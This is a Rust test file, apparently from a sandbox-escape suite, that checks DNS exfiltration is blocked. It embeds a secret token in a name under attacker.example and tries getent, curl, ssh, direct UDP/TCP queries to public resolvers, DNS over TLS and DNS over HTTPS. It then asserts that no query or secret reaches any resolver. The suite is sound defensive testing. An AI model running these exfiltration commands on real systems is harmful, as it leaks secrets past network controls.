@@ -1,0 +1,196 @@
+//! Escape cases 14–17, DNS: exfiltration through name lookups, direct queries to public resolvers over UDP, TCP and
+//! TLS, and whatever resolver the bottle has. The lab runs a DNS server on every address a query could go to
+//! (8.8.8.8, 1.1.1.1, 127.0.0.1, 127.0.0.53, the host's own resolvers), logging every question: no query may
+//! arrive at all, not even from the proxy on the bottle's behalf.
+
+use std::sync::OnceLock;
+
+use crate::decoys::{self, Decoy};
+use crate::lab::{self, Lab};
+use crate::scenario::{self, Env, Launch, Ran, Script};
+
+struct Dns {
+    _lab: Lab,
+    ran: Ran,
+    secret: String,
+    dns: Decoy,
+    dot: Decoy,
+    https: Decoy,
+}
+
+static FAMILY: OnceLock<Result<Dns, String>> = OnceLock::new();
+
+fn family() -> Option<&'static Dns> {
+    if scenario::skip() {
+        return None;
+    }
+    let f = scenario::shared(&FAMILY, setup);
+    f.ran.tools_present();
+    Some(f)
+}
+
+fn setup() -> Dns {
+    let lab = Lab::new();
+    let env = Env::new();
+    // Dual-stack port 53 on every lab address, the systemd-resolved stub 127.0.0.53 included.
+    let dns = lab.enter(|| decoys::dns("[::]:53", Vec::new()));
+    let dot = lab.enter(|| decoys::tcp("[::]:853", b""));
+    let https = lab.enter(|| decoys::tcp("[::]:443", b""));
+    let secret = scenario::token("exfil");
+    let name = format!("{secret}.attacker.example");
+    let resolver = lab::host_resolvers()
+        .first()
+        .map_or_else(|| "10.255.255.53".to_string(), ToString::to_string);
+    let resolver_addr = if resolver.contains(':') {
+        format!("[{resolver}]:53")
+    } else {
+        format!("{resolver}:53")
+    };
+
+    let mut sc = Script::default();
+    sc.tools(&["curl", "getent", "ssh"]);
+    // 14: lookups that would carry the secret in the name
+    sc.probe("c14-getaddrinfo", &["resolve", &name])
+        .shell("c14-getent", &format!("getent hosts {name}"))
+        .shell("c14-getent-ahosts", &format!("getent ahosts {name}"))
+        .shell(
+            "c14-curl-via-proxy",
+            &format!("curl -sS --fail --max-time 5 http://{name}/"),
+        )
+        .shell(
+            "c14-curl-noproxy",
+            &format!("curl -sS --fail --max-time 5 --noproxy '*' http://{name}/"),
+        )
+        .shell(
+            "c14-ssh",
+            &format!("ssh -o BatchMode=yes -o ConnectTimeout=5 git@{name} true"),
+        )
+        .probe("c14-proxy-connect", &["proxy-connect", &format!("{name}:443")]);
+    // 15: straight to public resolvers
+    sc.probe("c15-udp-8888", &["dns-udp", "8.8.8.8:53", &format!("u.{name}")])
+        .probe("c15-tcp-8888", &["dns-tcp", "8.8.8.8:53", &format!("t.{name}")])
+        .probe(
+            "c15-udp-v6",
+            &["dns-udp", "[2001:4860:4860::8888]:53", &format!("u6.{name}")],
+        )
+        .probe(
+            "c15-udp-host-resolver",
+            &["dns-udp", &resolver_addr, &format!("h.{name}")],
+        )
+        .probe("c15-udp-loopback", &["dns-udp", "127.0.0.1:53", &format!("l.{name}")])
+        .probe("c15-udp-stub", &["dns-udp", "127.0.0.53:53", &format!("s.{name}")])
+        .probe("c15-proxy-connect-53", &["proxy-connect", "8.8.8.8:53"]);
+    // 16: DNS over TLS
+    sc.probe("c16-dot-1111", &["dot", "1.1.1.1:853"])
+        .probe("c16-dot-8888", &["dot", "8.8.8.8:853"])
+        .probe("c16-dot-v6", &["dot", "[2001:4860:4860::8888]:853"])
+        .probe("c16-proxy-connect-853-name", &["proxy-connect", "dns.google:853"])
+        .probe("c16-proxy-connect-853-literal", &["proxy-connect", "1.1.1.1:853"]);
+    // 17: the bottle's own resolver
+    sc.probe("c17-resolve-public-name", &["resolve", "example.com"])
+        .probe("c17-resolve-ipv6-name", &["resolve", "ipv6.google.com"])
+        .probe(
+            "c17-resolv-conf-has-no-nameserver",
+            &["read-file", "/etc/resolv.conf", "nameserver"],
+        );
+    // Our own: DNS over HTTPS endpoints through the proxy.
+    sc.probe("x-doh-name", &["proxy-connect", "dns.google:443"])
+        .probe("x-doh-literal", &["proxy-connect", "1.1.1.1:443"])
+        .probe(
+            "x-doh-get",
+            &["proxy-get", &format!("http://cloudflare-dns.com/dns-query?name={name}")],
+        );
+
+    let ran = Launch::new(&lab, &env, "dns").run(&sc);
+    Dns {
+        ran,
+        secret,
+        dns,
+        dot,
+        https,
+        _lab: lab,
+    }
+}
+
+/// No DNS server in the lab heard a single question.
+fn no_query(f: &Dns) {
+    assert_eq!(
+        f.dns.log.count(),
+        0,
+        "DNS questions reached the lab: {:?}",
+        f.dns.log.lines()
+    );
+}
+
+#[test]
+fn case_14_secret_in_a_name_never_reaches_a_resolver() {
+    let Some(f) = family() else { return };
+    for id in [
+        "c14-getaddrinfo",
+        "c14-getent",
+        "c14-getent-ahosts",
+        "c14-curl-via-proxy",
+        "c14-curl-noproxy",
+        "c14-ssh",
+    ] {
+        f.ran.held(id);
+    }
+    f.ran.refused("c14-proxy-connect");
+    no_query(f);
+    let everything = [&f.dns, &f.dot, &f.https]
+        .iter()
+        .flat_map(|d| d.log.lines())
+        .collect::<Vec<_>>();
+    assert!(
+        !everything.iter().any(|l| l.contains(&f.secret)),
+        "the secret left the bottle: {everything:?}"
+    );
+}
+
+#[test]
+fn case_15_queries_to_8_8_8_8_over_udp_and_tcp_are_blocked() {
+    let Some(f) = family() else { return };
+    for id in [
+        "c15-udp-8888",
+        "c15-tcp-8888",
+        "c15-udp-v6",
+        "c15-udp-host-resolver",
+        "c15-udp-loopback",
+        "c15-udp-stub",
+    ] {
+        f.ran.held(id);
+    }
+    f.ran.refused("c15-proxy-connect-53");
+    no_query(f);
+}
+
+#[test]
+fn case_16_dns_over_tls_on_853_is_blocked() {
+    let Some(f) = family() else { return };
+    for id in ["c16-dot-1111", "c16-dot-8888", "c16-dot-v6"] {
+        f.ran.held(id);
+    }
+    f.ran.refused("c16-proxy-connect-853-name");
+    f.ran.refused("c16-proxy-connect-853-literal");
+    assert_eq!(f.dot.log.count(), 0, "{:?}", f.dot.log.lines());
+}
+
+#[test]
+fn case_17_the_bottle_has_no_resolver_for_non_allowed_names() {
+    let Some(f) = family() else { return };
+    for id in ["c17-resolve-public-name", "c17-resolve-ipv6-name"] {
+        f.ran.held(id);
+    }
+    let v = f.ran.held("c17-resolv-conf-has-no-nameserver");
+    assert!(v.evidence.contains("exists inside the bottle"), "{v:#?}");
+    no_query(f);
+}
+
+#[test]
+fn extra_dns_over_https_endpoints_are_refused_by_the_proxy() {
+    let Some(f) = family() else { return };
+    f.ran.refused("x-doh-name");
+    f.ran.refused("x-doh-literal");
+    f.ran.refused("x-doh-get");
+    assert_eq!(f.https.log.count(), 0, "{:?}", f.https.log.lines());
+}
